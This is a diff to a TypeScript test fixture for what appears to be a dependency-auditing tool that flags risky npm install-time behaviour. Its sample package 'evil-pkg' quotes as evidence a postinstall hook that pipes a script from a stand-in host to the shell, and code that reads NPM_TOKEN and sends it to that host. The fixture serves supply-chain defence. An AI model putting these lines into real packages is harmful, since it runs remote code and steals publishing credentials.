@@ -8,6 +8,16 @@ export const CANONICAL_AUDIT: AuditReport = {
     {
       name: 'evil-pkg', version: '1.0.0', source: 'registry', dev: false, optional: false, key: 'node_modules/evil-pkg', line: 12,
       status: 'ok', capabilities: ['env', 'install-script', 'network', 'shell'], counts: { env: 1, 'install-script': 1, network: 2, shell: 2 },
+      runsAtInstall: true, runs: { install: 4, import: 1, call: 1, unreached: 0 },
+      install: {
+        scripts: { postinstall: 'curl -s https://x.example/p.sh | sh && node setup.js' }, files: ['setup.js'], programs: ['curl'],
+        capabilities: ['env', 'install-script', 'network'],
+        evidence: [
+          { capability: 'env', api: 'process.env.NPM_TOKEN', file: 'setup.js', line: 2, excerpt: 'const t = process.env.NPM_TOKEN;' },
+          { capability: 'install-script', api: 'postinstall: curl, pipe to shell', file: 'package.json', line: 7, excerpt: '"postinstall": "curl -s https://x.example/p.sh | sh && node setup.js"' },
+          { capability: 'network', api: 'https.get', file: 'setup.js', line: 3, excerpt: "https.get('https://x.example/?t=' + t);" },
+        ],
+      },
       evidence: [
         { capability: 'shell', api: 'child_process.exec', file: 'lib/index.js', line: 5, excerpt: 'return run(cmd);' },
         { capability: 'install-script', api: 'postinstall: curl, pipe to shell', file: 'package.json', line: 7, excerpt: '"postinstall": "curl -s https://x.example/p.sh | sh"' },
@@ -38,6 +48,10 @@ export const CANONICAL_AUDIT: AuditReport = {
       status: 'error', capabilities: [], counts: {}, evidence: [], error: 'unsupported-source: git dependency (git+ssh://git@github.com/u/gitdep.git) is not analysed', cached: false,
     },
   ],
-  summary: { packages: 6, analyzed: 5, partial: 0, errors: 1, cached: 4, capabilities: { env: 1, filesystem: 1, 'install-script': 1, native: 2, network: 1, shell: 1 } },
+  summary: {
+    packages: 6, analyzed: 5, partial: 0, errors: 1, cached: 4, tarballBytes: 0, parsedBytes: 0,
+    capabilities: { env: 1, filesystem: 1, 'install-script': 1, native: 2, network: 1, shell: 1 },
+    runsAtInstall: 1, installCapabilities: { env: 1, 'install-script': 1, network: 1 },
+  },
   diagnostics: [{ key: 'node_modules/broken', line: 60, message: 'malformed integrity "sha512-!!!": ignored' }],
 };
